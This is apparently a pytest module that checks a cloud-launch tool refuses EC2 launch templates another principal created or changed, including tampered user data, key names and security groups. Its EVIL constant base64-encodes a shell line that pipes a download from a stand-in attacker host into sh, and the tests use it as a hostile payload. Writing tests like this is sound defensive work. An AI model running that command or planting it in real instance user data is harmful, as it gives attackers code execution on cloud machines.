"""Launch templates that another principal created or changed: no node starts from them, and the error names the
template and the remedy.
"""

import base64
from collections.abc import Iterator
from typing import Any

import pytest

from joiner.launching import Launch
from joiner_local.aws.account_setup.cluster_network import Network, seed_network
from tests.local.running_aws import RunningAws
from tests.local.test_launching import LaunchAccount

pytestmark = pytest.mark.local

EVIL = base64.b64encode(b"#!/bin/sh\ncurl http://attacker.example | sh\n").decode()


@pytest.fixture(scope="module")
def network(local_aws: RunningAws) -> Network:
    return seed_network(local_aws.endpoint, "launching")


@pytest.fixture
def account(local_aws: RunningAws, network: Network) -> Iterator[LaunchAccount]:
    account = LaunchAccount(local_aws, network)
    yield account
    ec2 = local_aws.client("ec2")
    for template in ec2.describe_launch_templates(MaxResults=200)["LaunchTemplates"]:
        if template["LaunchTemplateName"].startswith("joiner/launching/"):
            ec2.delete_launch_template(LaunchTemplateId=template["LaunchTemplateId"])


def user_data(account: LaunchAccount, launch: Launch) -> list[str]:
    """Return the user data of the instances of a launch."""
    ec2 = account.aws.client("ec2")
    found = account.ec2.instances_of_launch(launch.id)
    return [
        ec2.describe_instance_attribute(InstanceId=each.id, Attribute="userData")["UserData"]["Value"].replace("\n", "")
        for each in found
    ]


def foreign(account: LaunchAccount, launch: Launch, **changes: Any) -> str:
    """Create a template of the name that the launch wants, as another principal before it."""
    (template,) = launch.templates
    account.aws.client("ec2").create_launch_template(
        LaunchTemplateName=template.name, LaunchTemplateData={**template.data, **changes}
    )
    return template.name


def outcome(account: LaunchAccount, launch: Launch) -> str:
    record = account.ledger.launch(launch.id)
    assert record is not None
    return record.outcome


def test_two_launches_share_a_template_that_is_as_wanted(account: LaunchAccount) -> None:
    first, _ = account.launch("a")
    second, _ = account.launch("b")

    assert [account.send(key)["launched"] for key in (first, second)] == [1, 1]


def test_a_version_that_another_principal_added_is_not_used(account: LaunchAccount) -> None:
    first, _ = account.launch("a")
    assert account.send(first)["launched"] == 1
    second, launch = account.launch("b")
    (template,) = launch.templates
    ec2 = account.aws.client("ec2")
    ec2.create_launch_template_version(
        LaunchTemplateName=template.name, LaunchTemplateData={**template.data, "UserData": EVIL}
    )
    ec2.modify_launch_template(LaunchTemplateName=template.name, DefaultVersion="2")

    assert account.send(second)["launched"] == 1
    assert user_data(account, launch) == [template.data["UserData"]]


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"UserData": EVIL}, "UserData"),
        ({"KeyName": "another-key"}, "KeyName"),
        ({"SecurityGroupIds": ["sg-open"]}, "SecurityGroupIds"),
    ],
    ids=lambda each: str(each)[:16],
)
def test_a_template_that_another_principal_made_launches_nothing(
    account: LaunchAccount, changes: dict[str, Any], field: str
) -> None:
    key, launch = account.launch("a")
    name = foreign(account, launch, **changes)

    answer = account.send(key)

    assert (answer["launched"], answer["failed"], answer["errors"]) == (0, 1, ["LaunchTemplateDiffers"])
    assert account.ec2.instances_of_launch(launch.id) == []
    message = outcome(account, launch)
    assert name in message
    assert f"it differs in {field}" in message
    assert "delete that launch template" in message


def test_a_template_that_is_deleted_is_made_again(account: LaunchAccount) -> None:
    key, launch = account.launch("a")
    name = foreign(account, launch, UserData=EVIL)
    assert account.send(key)["failed"] == 1
    account.aws.client("ec2").delete_launch_template(LaunchTemplateName=name)

    again, launch = account.launch("b")
    assert account.send(again)["launched"] == 1
    assert user_data(account, launch) == [launch.templates[0].data["UserData"]]
